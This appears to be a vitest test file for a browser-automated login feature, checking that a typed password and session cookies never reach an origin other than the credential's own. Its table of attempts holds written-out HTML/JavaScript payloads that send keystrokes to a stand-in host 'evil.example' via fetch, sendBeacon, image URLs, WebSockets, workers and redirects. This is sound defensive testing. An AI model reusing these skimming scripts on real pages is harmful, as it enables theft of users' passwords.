import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { text as readAll } from "node:stream/consumers";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import type { LoginStep } from "../../src/contract/accounts/login.ts";
import type { OpenBrowser } from "../../src/ports/browser.ts";
import { openerOfLoopback } from "./local-browser.ts";

type Handle = (request: IncomingMessage, response: ServerResponse) => void;
type Seen = { method: string; host: string; url: string; text: string };

const open = await openerOfLoopback();
const answers = new Map<string, Handle>();
const seen: Seen[] = [];
const server = createServer((request, response) => {
  void readAll(request).then((body) => {
    const { method = "", url = "", headers } = request;
    const { host = "" } = headers;
    seen.push({ method, host, url, text: `${url} ${JSON.stringify(headers)} ${body}` });
    const answer = answers.get(`${host.split(":")[0]}${url.split("?")[0]}`);
    if (answer !== undefined) return answer(request, response);
    response.writeHead(200, {
      "content-type": "text/html",
      "access-control-allow-origin": request.headers.origin ?? "*",
      "access-control-allow-credentials": "true",
    });
    response.end("<p>anything</p>");
  });
});
let port: number;
let browser: OpenBrowser;

beforeAll(async () => {
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  ({ port } = server.address() as AddressInfo); // a TCP server's address
  browser = await open();
}, 60_000);

afterAll(async () => {
  await browser.close();
  server.closeAllConnections();
  await new Promise((done) => server.close(done));
});

beforeEach(() => {
  answers.clear();
  seen.length = 0;
});

const password = "correct-horse battery";
const own = () => `http://docs.example:${port}`;
const evil = () => `http://evil.example:${port}`;

const html =
  (body: string, headers: Record<string, string> = {}): Handle =>
  (_request, response) =>
    void response.writeHead(200, { "content-type": "text/html", ...headers }).end(body);
const moved =
  (location: string, status = 302): Handle =>
  (_request, response) =>
    void response.writeHead(status, { location }).end();

const form = (action: string) =>
  `<form method=post action="${action}"><input name=pw><button>go</button></form>`;

function logIn(
  rest: LoginStep[],
  origins = [own()],
  signal = AbortSignal.timeout(20_000),
  by = browser,
) {
  const login = {
    steps: [{ action: "goto" as const, url: `${own()}/login` }, ...rest],
    values: { password },
    canary: { url: `${own()}/account`, text: "Log out" },
  };
  return by.logIn({ login, origins }, signal);
}
const typed: LoginStep[] = [{ action: "fill", selector: "input[name=pw]", value: "password" }];
const sent: LoginStep[] = [...typed, { action: "click", selector: "button" }];

/** Requests that have reached another host than that of the credential. */
const elsewhere = () => seen.filter(({ host }) => !host.startsWith("docs.example"));
const secret = /correct.horse|Y29ycmVjdC1ob3Jz|636f7272656374/i;

test("the cookies of a session are returned, with their hosts and paths", async () => {
  answers.set("docs.example/login", html(form("/in"), { "set-cookie": "csrf=1; HttpOnly" }));
  answers.set("docs.example/in", (_request, response) => {
    const cookies = ["sid=s1; Path=/; HttpOnly", "area=a; Path=/members; Domain=docs.example"];
    response.writeHead(303, { location: "/home", "set-cookie": cookies }).end();
  });
  answers.set("docs.example/home", html("<h1 id=home>Home</h1>"));
  const end = await logIn([...sent, { action: "waitFor", selector: "#home" }]);
  expect(end).toMatchObject({ ok: true });
  const cookies = end.ok ? end.cookies : [];
  expect(cookies).toContainEqual({
    name: "sid",
    value: "s1",
    domain: "docs.example",
    path: "/",
    hostOnly: true,
    secure: false,
  });
  expect(cookies.find(({ name }) => name === "csrf")).toBeDefined();
  expect(cookies).toContainEqual({
    name: "area",
    value: "a",
    domain: "docs.example",
    path: "/members",
    hostOnly: false,
    secure: false,
  });
  expect(seen.find(({ url }) => url === "/in")?.text).toContain("pw=correct-horse+battery");
});

test("cookies of other hosts, and those that no header can carry, are not of the session", async () => {
  answers.set("docs.example/login", (_request, response) => {
    response.writeHead(200, {
      "content-type": "text/html",
      "set-cookie": ["sid=s1", Buffer.from("user=\u738b").toString("latin1")],
    });
    response.end(`<p id=p>a</p><img src="http://cdn.example:${port}/pixel">`);
  });
  answers.set("cdn.example/pixel", html("", { "set-cookie": "foreign=1" }));
  const end = await logIn([{ action: "waitFor", selector: "#p" }]);
  expect(seen.some(({ url }) => url === "/pixel")).toBe(true);
  expect(end.ok ? end.cookies.map(({ name }) => name) : end).toEqual(["sid"]);
});

test("a login that is cancelled while its page opens does not begin", async () => {
  answers.set("docs.example/login", html("<p id=p>a</p>"));
  const stop = new AbortController();
  const cancelled = logIn([], [own()], stop.signal);
  await new Promise((turn) => setImmediate(turn));
  stop.abort();
  expect(await cancelled).toMatchObject({ ok: false, isTried: false });
  await logIn([{ action: "waitFor", selector: "#p" }]);
  expect(seen.filter(({ url }) => url === "/login")).toHaveLength(1);
});

test("a browser that ends before something was typed is no failure of the account", async () => {
  const ended = await open();
  await ended.close();
  const end = await logIn(sent, [own()], AbortSignal.timeout(20_000), ended);
  expect(end).toMatchObject({ ok: false, isTried: false });
});

test("a profile knows nothing of the last login", async () => {
  answers.set("docs.example/login", html("<p id=p>a</p>", { "set-cookie": "sid=s1" }));
  const wait: LoginStep[] = [{ action: "waitFor", selector: "#p" }];
  await logIn(wait);
  await logIn(wait);
  expect(seen.filter(({ url }) => url === "/login").every((one) => !one.text.includes("s1"))).toBe(
    true,
  );
});

test("a field in a frame of a listed provider is filled in; its cookies are returned", async () => {
  const sso = `http://sso.example:${port}`;
  answers.set("docs.example/login", html(`<iframe src="${sso}/form"></iframe>`));
  answers.set("sso.example/form", html(form("/in")));
  answers.set("sso.example/in", html("<p id=done>done</p>", { "set-cookie": "idp=i1" }));
  const end = await logIn([...sent, { action: "waitFor", selector: "#done" }], [own(), sso]);
  expect(end).toMatchObject({ ok: true });
  expect(seen.find(({ url }) => url === "/in")?.text).toContain("pw=correct-horse+battery");
});

/** Each would send what was typed to another origin, or have it typed there. */
const attempts: [string, () => void, LoginStep[]][] = [
  [
    "a form of another origin",
    () => answers.set("docs.example/login", html(form(`${evil()}/x`))),
    sent,
  ],
  [
    "a form that sends by GET",
    () =>
      answers.set(
        "docs.example/login",
        html(`<form action="${evil()}/x"><input name=pw><button>go</button></form>`),
      ),
    sent,
  ],
  ...[301, 302, 307, 308].map((status): [string, () => void, LoginStep[]] => [
    `a redirect ${status} of the form`,
    () => {
      answers.set("docs.example/login", html(form("/in")));
      answers.set("docs.example/in", moved(`${evil()}/x`, status));
    },
    sent,
  ]),
  [
    "a redirect of the login page",
    () => {
      answers.set("docs.example/login", moved(`${evil()}/form`));
      answers.set("evil.example/form", html(form("/in")));
    },
    sent,
  ],
  [
    "a frame of another origin",
    () => {
      answers.set("docs.example/login", html(`<iframe src="${evil()}/form"></iframe>`));
      answers.set("evil.example/form", html(form("/in")));
    },
    sent,
  ],
  [
    "a change of the location",
    () => answers.set("docs.example/login", html(`<script>location = "${evil()}/form"</script>`)),
    sent,
  ],
  [
    "a base",
    () => answers.set("docs.example/login", html(`<base href="${evil()}/">${form("in")}`)),
    sent,
  ],
  [
    "another port",
    () => answers.set("docs.example/login", html(form(`http://docs.example:${port + 1}/x`))),
    sent,
  ],
  [
    "another scheme",
    () => answers.set("docs.example/login", html(form(`https://docs.example:${port}/x`))),
    sent,
  ],
  [
    "a script that posts what is typed",
    () =>
      answers.set(
        "docs.example/login",
        html(
          `<input name=pw><script>document.querySelector("input").oninput = (e) =>
          fetch("${evil()}/x", { method: "POST", mode: "no-cors", body: e.target.value })</script>`,
        ),
      ),
    typed,
  ],
  [
    "a beacon",
    () =>
      answers.set(
        "docs.example/login",
        html(
          `<input name=pw><script>document.querySelector("input").oninput = (e) =>
          navigator.sendBeacon("${evil()}/x", e.target.value)</script>`,
        ),
      ),
    typed,
  ],
  [
    "a picture whose address has it",
    () =>
      answers.set(
        "docs.example/login",
        html(
          `<input name=pw><script>document.querySelector("input").oninput = (e) =>
          (new Image().src = "${evil()}/x?" + encodeURIComponent(e.target.value))</script>`,
        ),
      ),
    typed,
  ],
  [
    "a picture whose address has it in base64",
    () =>
      answers.set(
        "docs.example/login",
        html(
          `<input name=pw><script>document.querySelector("input").oninput = (e) =>
          (new Image().src = "${evil()}/x?" + btoa(e.target.value))</script>`,
        ),
      ),
    typed,
  ],
  [
    "a redirected picture",
    () => {
      answers.set(
        "docs.example/login",
        html(
          `<input name=pw><script>document.querySelector("input").oninput = (e) =>
          (new Image().src = "/r?" + encodeURIComponent(e.target.value))</script>`,
        ),
      );
      answers.set("docs.example/r", (request, response) =>
        moved(`${evil()}/x${(request.url ?? "").slice(2)}`)(request, response),
      );
    },
    typed,
  ],
  [
    "a socket",
    () =>
      answers.set(
        "docs.example/login",
        html(
          `<input name=pw><script>document.querySelector("input").oninput = (e) => {
          const s = new WebSocket("ws://evil.example:${port}/x?" + btoa(e.target.value)); }</script>`,
        ),
      ),
    typed,
  ],
  [
    "a socket of a worker",
    () =>
      answers.set(
        "docs.example/login",
        html(
          `<input name=pw><script>document.querySelector("input").oninput = (e) => {
          const code = 'new WebSocket("ws://evil.example:${port}/x?" + ' + JSON.stringify(btoa(e.target.value)) + ')';
          const frame = document.body.appendChild(document.createElement("iframe"));
          for (const own of [window, frame.contentWindow])
            try { new own.Worker(URL.createObjectURL(new Blob([code]))); } catch {} }</script>`,
        ),
      ),
    typed,
  ],
  [
    "a new window",
    () =>
      answers.set(
        "docs.example/login",
        html(`<form target=_blank action="${evil()}/x"><input name=pw><button>go</button></form>`),
      ),
    sent,
  ],
  ...[302, 307].map((status): [string, () => void, LoginStep[]] => [
    `a redirect ${status} in a new window`,
    () => {
      answers.set("docs.example/login", html(form("/in").replace("<form", "<form target=_blank")));
      answers.set("docs.example/in", moved(`${evil()}/x`, status));
    },
    sent,
  ]),
];

test.each(attempts)(
  "another origin learns nothing of a login by %s",
  async (_, set) => {
    set();
    const steps = attempts.find(([name]) => name === _)?.[2] ?? [];
    await logIn(steps, [own()], AbortSignal.timeout(15_000));
    expect(seen.map(({ url }) => url)).toContain("/login");
    expect(elsewhere().filter(({ method }) => method === "POST")).toEqual([]);
    expect(elsewhere().filter(({ text }) => secret.test(text))).toEqual([]);
  },
  60_000,
);

test("a frame that moves to a listed provider in another process is watched there, too", async () => {
  const sso = `http://sso.example:${port}`;
  answers.set("docs.example/login", html(`<iframe src="/frame"></iframe>`));
  answers.set("docs.example/frame", html(`<a href="${sso}/form">on</a>`));
  answers.set("sso.example/form", html(form("/in")));
  answers.set("sso.example/in", moved(`${evil()}/x`, 307));
  const on: LoginStep = { action: "click", selector: "a" };
  await logIn([on, ...sent], [own(), sso]);
  expect(seen.find(({ url }) => url === "/in")?.text).toContain("pw=correct-horse+battery");
  expect(seen.filter(({ host }) => host.startsWith("evil"))).toEqual([]);
}, 60_000);

test.each<[string, LoginStep[], RegExp]>([
  [
    "a field that is not there",
    [{ ...typed[0], selector: "#none" } as LoginStep],
    /took too long|ended with the job/,
  ],
  ["a page of another origin", sent, /leads to http:\/\/evil\.example/],
])("%s fails with a reason, without a value", async (name, steps, reason) => {
  const isAway = name.includes("another origin");
  answers.set("docs.example/login", isAway ? moved(`${evil()}/x?token=1`) : html(form("/in")));
  const end = await logIn(steps, [own()], AbortSignal.timeout(8_000));
  expect(end).toMatchObject({ ok: false, reason: expect.stringMatching(reason) });
  expect(JSON.stringify(end)).not.toMatch(/correct|token/);
});
